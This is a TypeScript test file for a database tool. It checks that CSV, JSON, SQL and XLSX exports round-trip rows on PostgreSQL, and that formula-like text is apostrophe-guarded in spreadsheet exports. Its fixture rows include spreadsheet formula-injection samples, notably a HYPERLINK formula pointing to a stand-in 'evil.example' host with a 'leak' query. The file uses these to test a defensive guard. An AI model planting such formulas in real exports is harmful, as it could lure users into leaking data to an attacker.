/**
 * Issue 23 §5: data comes back the same. A CSV export follows COPY's convention (NULL is an empty
 * field, the empty string is ""), text a spreadsheet would run as a formula is guarded with an
 * apostrophe unless the export asks for raw text (never in JSON or SQL exports), and importing the
 * exported CSV into a table of the same shape gives back exactly the rows — on PostgreSQL.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PG_URL, pgSourceInput, scratchPgDatabase, testApp, type TestApp } from '../test/helpers.js';
import { upload, waitTask } from '../test/task-helpers.js';

const ROWS = `
  (1, NULL, NULL, ''),
  (2, '', 0, NULL),
  (3, '=HYPERLINK("http://evil.example/?leak","click")', -5, '+1'),
  (4, '-5', 1.5, '@SUM(A1)'),
  (5, E'\\ttab first', NULL, E'\\rcr first'),
  (6, 'a,"b"', 3, E'line\\nbreak'),
  (7, '''=already quoted', NULL, '  spaced  '),
  (8, '''5', -0.25, '-dash text'),
  (9, '''''-twice', NULL, 'plain')`;

describe('CSV export → import round trip on PostgreSQL', () => {
  let t: TestApp;
  let db: Awaited<ReturnType<typeof scratchPgDatabase>>;
  let pg: number;
  const rowsOf = async (table: string) => {
    const { default: pgLib } = await import('pg');
    const url = new URL(PG_URL);
    url.pathname = `/${db.name}`;
    const c = new pgLib.Client({ connectionString: url.toString() });
    await c.connect();
    try {
      return (await c.query(`SELECT id, txt, n::text AS n, note FROM ${table} ORDER BY id`)).rows;
    } finally {
      await c.end();
    }
  };
  const exportAs = async (format: string, extra: object = {}) => {
    const task = await waitTask(t, (await t.json('POST', '/api/task/export', { dataSourceId: pg, schemaName: 'public', target: 'table', tableName: 'src', format, ...extra })).body.data.id);
    expect(task.state).toBe('DONE');
    return (await t.app.inject({ method: 'GET', url: `/api/task/download?id=${task.id}` })).rawPayload;
  };

  beforeAll(async () => {
    db = await scratchPgDatabase('askdb_roundtrip', `
      CREATE TABLE src (id int PRIMARY KEY, txt text, n numeric, note text);
      INSERT INTO src VALUES ${ROWS};
      CREATE TABLE back (LIKE src);
      CREATE TABLE back_xlsx (LIKE src);`);
    t = await testApp({ demo: false });
    pg = (await t.json('POST', '/api/connection/datasource/create', pgSourceInput('round trip', db.name))).body.data;
  });
  afterAll(async () => {
    await t?.close();
    await db?.drop();
  });

  it('writes NULL as nothing and the empty string as "", like COPY … CSV', async () => {
    const csv = (await exportAs('csv')).toString('utf8');
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('id,txt,n,note');
    expect(lines[1]).toBe('1,,,""');
    expect(lines[2]).toBe('2,"",0,');
  });

  it('guards formula-like text for spreadsheets by default, keeps it raw when asked, never touches JSON or SQL', async () => {
    const csv = (await exportAs('csv')).toString('utf8');
    // +1 and -5 are plain numbers: a spreadsheet reads them as numbers, never as formulas.
    expect(csv).toContain(`3,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",-5,+1\r\n`);
    expect(csv).toContain(`4,-5,1.5,'@SUM(A1)\r\n`);
    expect(csv).toContain(`5,'\ttab first,,"'\rcr first"\r\n`);
    expect(csv).toContain(`7,''=already quoted,,"  spaced  "\r\n`);
    expect(csv).toContain(`8,'5,-0.25,'-dash text\r\n`);
    const raw = (await exportAs('csv', { rawFormulas: true })).toString('utf8');
    expect(raw).toContain(`3,"=HYPERLINK(""http://evil.example/?leak"",""click"")",-5,+1\r\n`);
    const json = JSON.parse((await exportAs('json')).toString('utf8'));
    expect(json[2]).toEqual({ id: '3', txt: '=HYPERLINK("http://evil.example/?leak","click")', n: '-5', note: '+1' });
    const sql = (await exportAs('sql')).toString('utf8');
    expect(sql).toContain(`'=HYPERLINK("http://evil.example/?leak","click")'`);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await exportAs('xlsx')) as never);
    expect(wb.worksheets[0]!.getRow(4).getCell(2).value).toBe(`'=HYPERLINK("http://evil.example/?leak","click")`);
    expect(wb.worksheets[0]!.getRow(4).getCell(3).value).toBe('-5');
  });

  it('imports the exported CSV (and XLSX) into a table of the same shape with exactly the same rows', async () => {
    const original = await rowsOf('src');
    const start = async (name: string, file: Buffer, format: string, tableName: string) => {
      const r = await t.json('POST', '/api/task/import', { uploadId: await upload(t, name, file), dataSourceId: pg, schemaName: 'public', format, tableName, mode: 'existing', skipBadRows: false });
      expect(r.status).toBe(200);
      return waitTask(t, r.body.data.id);
    };
    expect(await start('src.csv', await exportAs('csv'), 'csv', 'back')).toMatchObject({ state: 'DONE', committedRows: 9 });
    expect(await rowsOf('back')).toEqual(original);
    expect(await start('src.xlsx', await exportAs('xlsx'), 'xlsx', 'back_xlsx')).toMatchObject({ state: 'DONE', committedRows: 9 });
    // XLSX keeps texts (formula-like ones too) and numbers; an empty text and NULL are both an empty
    // cell there, and XML reads a carriage return back as a line feed (row 5).
    const loose = (rows: any[]) => rows.filter((r) => r.id !== 5).map((r) => ({ ...r, txt: r.txt || null, note: r.note || null }));
    expect(loose(await rowsOf('back_xlsx'))).toEqual(loose(original));
  });
});
